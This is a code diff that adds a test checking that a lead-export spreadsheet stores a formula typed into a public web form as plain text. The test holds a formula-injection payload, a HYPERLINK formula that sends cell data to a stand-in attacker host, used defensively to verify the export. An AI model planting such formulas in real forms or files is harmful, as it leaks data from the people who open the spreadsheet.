@@ -138,3 +138,17 @@ def test_export_has_zh_headers_and_only_the_rows_the_caller_may_see(client, tagg
     assert isinstance(created, datetime)
     assert abs(created - datetime.now(ZoneInfo("Asia/Shanghai")).replace(tzinfo=None)) \
         < timedelta(minutes=10)
+
+
+def test_a_web_form_written_like_a_formula_is_exported_as_plain_text(stack, client) -> None:
+    tag = uuid.uuid4().hex[:8]
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点此查看报价")'
+    lead_id = submit(client, stack.intake_api_key,
+                     web_form(name=formula, company=f"{tag}精工")).json()["lead_id"]
+    director = login(client, "director")
+    assigned_lead(client, director, lead_id)
+    response = client.get("/api/v1/leads/export.xlsx", params={"q": tag}, headers=director)
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    # The manager opening the export must not run what a stranger typed into a public form.
+    name = sheet.cell(row=2, column=1)
+    assert (name.value, name.data_type) == (formula, "s")
